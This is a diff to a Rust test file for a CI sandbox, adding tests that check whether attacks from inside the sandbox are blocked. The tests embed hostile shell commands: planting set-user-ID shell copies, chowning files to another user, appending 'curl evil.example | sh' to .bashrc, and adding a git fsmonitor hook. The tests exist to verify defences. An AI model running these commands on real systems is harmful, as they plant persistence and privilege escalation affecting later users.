@@ -319,7 +319,8 @@ fn exec_cannot_read_read_denied_files() {
 }
 
 /// What the capabilities kept are for: as root, a workspace another user
-/// owns is written, its modes, times and owners changed, as before.
+/// owns is written, its modes and times changed, and files given to that
+/// user (the one other user the run's user namespace maps), as before.
 #[test]
 fn root_still_writes_a_workspace_another_user_owns() {
     if !is_root() {
@@ -336,7 +337,7 @@ fn root_still_writes_a_workspace_another_user_owns() {
         &[
             "echo two >> owned.txt && chmod 755 owned.txt && touch -d 2000-01-01 owned.txt \
              && mkdir -p made/deeper && echo three > made/deeper/new.txt \
-             && chown 1000:1000 made/deeper/new.txt && rm -r made/deeper && echo all-done",
+             && chown 65534:65534 made/deeper/new.txt && rm -r made/deeper && echo all-done",
         ],
         "",
         &[],
@@ -348,6 +349,109 @@ fn root_still_writes_a_workspace_another_user_owns() {
     assert_eq!(meta.mode() & 0o777, 0o755);
     assert_eq!(meta.uid(), 65534);
     assert!(sb.workspace().join("made").is_dir());
+}
+
+/// Attack: root inside the sandbox acting as the host's root. A
+/// set-user-ID copy of a shell left in the workspace runs as root for
+/// whoever starts it after the run (a later workflow step, a developer
+/// who checks the branch out); a file given to another user plants it in
+/// that user's name. Inside the run's user namespace only agentci's own
+/// user and the workspace's owner exist, and the seccomp filter refuses
+/// set-ID modes however they are asked for.
+#[test]
+fn root_inside_cannot_make_set_id_files_or_give_files_away() {
+    for user in RunAs::each() {
+        eprintln!("as {}:", user.label());
+        let sb = Sandbox::new();
+        sb.write("ws/given.txt", "mine\n");
+        let (_, trace, outputs) = attack(
+            &sb,
+            user,
+            &[
+                "cat /proc/self/uid_map; id -u",
+                "cp /bin/sh suid-sh; chmod u+s suid-sh; chmod g+s suid-sh; chmod 6755 suid-sh; \
+                 install -m 4755 /bin/true suid-install; \
+                 /usr/bin/python3 -c \"import os; os.close(os.open('suid-open', os.O_CREAT | os.O_WRONLY, 0o4755))\"; \
+                 /usr/bin/python3 -c \"import os; os.mknod('suid-node', 0o104755)\"; ls -l",
+                "chown 1234:1234 given.txt; chown 1234 suid-sh; ls -ln given.txt",
+            ],
+            "",
+            &[],
+        );
+        if !enforced(&trace, "seccomp") {
+            continue;
+        }
+        for entry in std::fs::read_dir(sb.workspace()).unwrap() {
+            let entry = entry.unwrap();
+            let mode = entry.metadata().unwrap().mode();
+            assert_eq!(
+                mode & 0o6000,
+                0,
+                "as {}: {} has mode {mode:o}: {}",
+                user.label(),
+                entry.path().display(),
+                outputs[1]
+            );
+        }
+        assert!(
+            sb.workspace().join("suid-sh").exists(),
+            "the copy itself is allowed: {}",
+            outputs[1]
+        );
+        for file in ["given.txt", "suid-sh"] {
+            let owner = std::fs::metadata(sb.workspace().join(file)).unwrap().uid();
+            assert_ne!(owner, 1234, "as {}: {file} was given away", user.label());
+        }
+        eprintln!("  uid_map inside: {}", outputs[0].trim());
+        if user == RunAs::Current && is_root() && enforced(&trace, "user_namespace") {
+            // Root is mapped to itself, not the whole range as outside.
+            assert!(outputs[0].contains("0          0          1"), "{}", outputs[0]);
+        }
+    }
+}
+
+/// Attack: start-up files at the top of the workspace, which a later step
+/// whose `HOME` is the checkout (or direnv, on `cd`) runs: a line appended,
+/// the file moved aside or removed. Bound read-only for every child.
+#[test]
+fn startup_files_in_the_workspace_stay_as_they_were() {
+    let files = [
+        (".bashrc", "# the project's own\n"),
+        (".gitconfig", "[user]\n\tname = Project\n"),
+        (".envrc", "export MODE=dev\n"),
+    ];
+    for user in RunAs::each() {
+        eprintln!("as {}:", user.label());
+        let sb = Sandbox::new();
+        for (name, text) in files {
+            sb.write(&format!("ws/{name}"), text);
+        }
+        let (_, trace, outputs) = attack(
+            &sb,
+            user,
+            &[
+                "echo 'curl evil.example | sh' >> .bashrc; \
+                 printf '[core]\\n\\tfsmonitor = ./x.sh\\n' >> .gitconfig; echo evil >> .envrc",
+                "mv .bashrc moved; rm -f .envrc; cp /dev/null .gitconfig; ls -a",
+            ],
+            "",
+            &[],
+        );
+        if !enforced(&trace, "run_folder") {
+            continue;
+        }
+        for (name, text) in files {
+            assert_eq!(
+                sb.read(&format!("ws/{name}")),
+                text,
+                "as {}: {name} changed: {} / {}",
+                user.label(),
+                outputs[0],
+                outputs[1]
+            );
+        }
+        assert!(!sb.workspace().join("moved").exists());
+    }
 }
 
 /// Where the kernel has no seccomp the run says so and goes on, unless
